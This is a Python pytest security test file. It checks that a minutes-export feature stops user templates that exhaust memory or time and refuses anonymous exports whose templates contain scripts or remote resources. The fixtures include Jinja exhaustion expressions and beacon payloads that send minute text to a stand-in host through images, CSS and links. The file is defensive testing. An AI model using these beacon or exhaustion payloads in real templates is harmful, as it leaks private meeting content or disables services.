"""Issue 14, Medium 7: a user's template is bounded in size and time, and cannot reach out.

A 78-byte template wrote 200 MB and took 1.8 GB; a recursive macro was a bug with a traceback.
Each is now a refusal in one line (CLI: exit 1; the export dialog: its status line) and
nothing is written. An HTML (or Markdown) template with a script or a remote resource, which
could carry the minutes' words to someone's server, is refused for anonymous minutes.
"""

from __future__ import annotations

import asyncio
import time
from pathlib import Path

import pytest
from PySide6.QtCore import QSettings
from pytestqt.qtbot import QtBot

from tests.minutes.readback import html_text
from tests.security.helpers import base_record, export, refused, write
from workshop_app.domain.attribution import Attribution
from workshop_app.minutes import template_limits
from workshop_app.ui.minutes.export_dialog import ExportDialog

HUNDRED = "x" * 100
WRITES_FOR_EVER = (
    "{% for a in range(99999) %}{% for b in range(99999) %}" + HUNDRED + "{% endfor %}{% endfor %}"
)
LOOPS_FOR_EVER = "{% for a in range(99999) %}{% for b in range(99999) %}{% endfor %}{% endfor %}"
RECURSIVE = "{% macro down(n) %}{{ down(n + 1) }}{% endmacro %}{{ down(0) }}"


def template(folder: Path, source: str, suffix: str = "md.j2") -> Path:
    path = folder / f"mine.{suffix}"
    path.write_text(source, encoding="utf-8")
    return path


@pytest.fixture
def workshop(tmp_path: Path) -> Path:
    return write(base_record(), tmp_path)


def test_a_template_that_writes_without_end_is_stopped_at_50_mb(
    capsys: pytest.CaptureFixture[str], workshop: Path, tmp_path: Path
) -> None:
    mine = template(tmp_path, WRITES_FOR_EVER)
    code, err, out = export(capsys, workshop, "md", "--template", str(mine), mode="named")
    assert refused(code, err, out), err
    assert f"The template {mine} was stopped: it writes more than 50 MB of text." in err


def test_a_template_that_loops_without_writing_is_stopped_in_time(
    capsys: pytest.CaptureFixture[str],
    workshop: Path,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(template_limits, "MAX_SECONDS", 1.0)  # 30 s in use
    mine = template(tmp_path, LOOPS_FOR_EVER)
    started = time.monotonic()
    code, err, out = export(capsys, workshop, "md", "--template", str(mine), mode="named")
    assert time.monotonic() - started < 10
    assert refused(code, err, out), err
    assert "was stopped: it runs for more than 1 seconds." in err


def test_a_macro_that_calls_itself_is_a_refusal_not_a_bug(
    capsys: pytest.CaptureFixture[str], workshop: Path, tmp_path: Path
) -> None:
    mine = template(tmp_path, RECURSIVE, "html.j2")
    code, err, out = export(capsys, workshop, "html", "--template", str(mine), mode="named")
    assert refused(code, err, out), err
    assert "was stopped: it calls itself without end." in err
    assert "unexpected error" not in err


@pytest.mark.parametrize(
    "source",
    [
        "{{ 'x' * 999999999 }}",
        "{{ 9 ** 999999999 }}",
        "{{ '%999999999d' % 1 }}",
        "{{ '%999999999d'|format(1) }}",
        "{{ 'x'|center(999999999) }}",
        "{{ 'x'.ljust(999999999) }}",
        "{{ '{:>999999999}'.format(1) }}",
        "{{ lipsum(99999) }}",
        "{% set ns = namespace(s='x') %}{% for i in range(60) %}"
        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s|length }}",
        "{% set kept %}" + WRITES_FOR_EVER + "{% endset %}{{ kept|length }}",
    ],
    ids=["repeat", "power", "percent", "format", "center", "ljust", "str.format", "lipsum",
         "doubling", "set block"],
)  # fmt: skip
def test_one_expression_cannot_build_a_huge_value(
    capsys: pytest.CaptureFixture[str], workshop: Path, tmp_path: Path, source: str
) -> None:
    mine = template(tmp_path, source)
    started = time.monotonic()
    code, err, out = export(capsys, workshop, "md", "--template", str(mine), mode="named")
    assert refused(code, err, out), err
    assert "was stopped: it writes more than 50 MB of text." in err
    assert time.monotonic() - started < 20


def test_the_export_dialog_says_the_template_was_stopped(
    qtbot: QtBot, workshop: Path, tmp_path: Path
) -> None:
    settings = QSettings(str(tmp_path / "settings.ini"), QSettings.Format.IniFormat)
    dialog = ExportDialog(workshop, settings)
    qtbot.addWidget(dialog)
    dialog.format.setCurrentIndex(dialog.format.findData("md"))
    dialog.attribution.setCurrentIndex(dialog.attribution.findData(Attribution.NAMED.value))
    dialog.template.setText(str(template(tmp_path, RECURSIVE)))
    out = tmp_path / "minutes.md"
    dialog.output.setText(str(out))
    assert not asyncio.run(dialog.export_async())
    assert dialog.status.text() == (
        f"Not written: The template {tmp_path / 'mine.md.j2'} was stopped: "
        "it calls itself without end."
    )
    assert not out.exists()


BEACON = "https://beacon.example/p.png?t={{ minutes.items[1].sections[0].said[0].text|urlencode }}"
REACHING_OUT = {
    "remote image": ("html.j2", f'<p>{{{{ minutes.title }}}}</p><img src="{BEACON}">'),
    "script": ("html.j2", "<p>{{ minutes.title }}</p><script>fetch('/x')</script>"),
    "event attribute": ("html.j2", '<p onmouseover="go()">{{ minutes.title }}</p>'),
    "css url": ("html.j2", f"<style>body {{ background: url('{BEACON}') }}</style>"),
    "escaped css url": ("html.j2", "<style>p { background: u\\72l(//beacon.example/x) }</style>"),
    "srcset": ("html.j2", f'<img src="logo.png" srcset="logo.png 1x, {BEACON} 2x">'),
    "stylesheet": ("html.j2", '<link rel="stylesheet" href="//beacon.example/s.css">'),
    "markdown image": ("md.j2", f"# {{{{ minutes.title }}}}\n\n![logo]({BEACON})\n"),
}


@pytest.mark.parametrize(("suffix", "source"), REACHING_OUT.values(), ids=REACHING_OUT.keys())
def test_anonymous_minutes_refuse_a_template_that_reaches_out(
    capsys: pytest.CaptureFixture[str], workshop: Path, tmp_path: Path, suffix: str, source: str
) -> None:
    mine = template(tmp_path, source, suffix)
    fmt = suffix.split(".")[0]
    for forced in ([], ["--force"]):  # --force writes names anyway, never a beacon
        code, err, out = export(capsys, workshop, fmt, "--template", str(mine), *forced)
        assert refused(code, err, out), err
        assert f"The template {mine} has " in err
        assert "anonymous minutes are not written with scripts or remote resources" in err


def test_a_template_with_a_local_image_and_a_web_link_is_fine(
    capsys: pytest.CaptureFixture[str], workshop: Path, tmp_path: Path
) -> None:
    source = (
        '<img src="logo.png" alt="Logo"><img src="data:image/png;base64,iVBORw0KGgo=">'
        '<h1>{{ minutes.title }}</h1><a href="https://example.org/about">About us</a>'
    )
    mine = template(tmp_path, source, "html.j2")
    code, err, out = export(capsys, workshop, "html", "--template", str(mine))
    assert code == 0, err
    assert "European Conversation" in html_text(out.read_bytes())
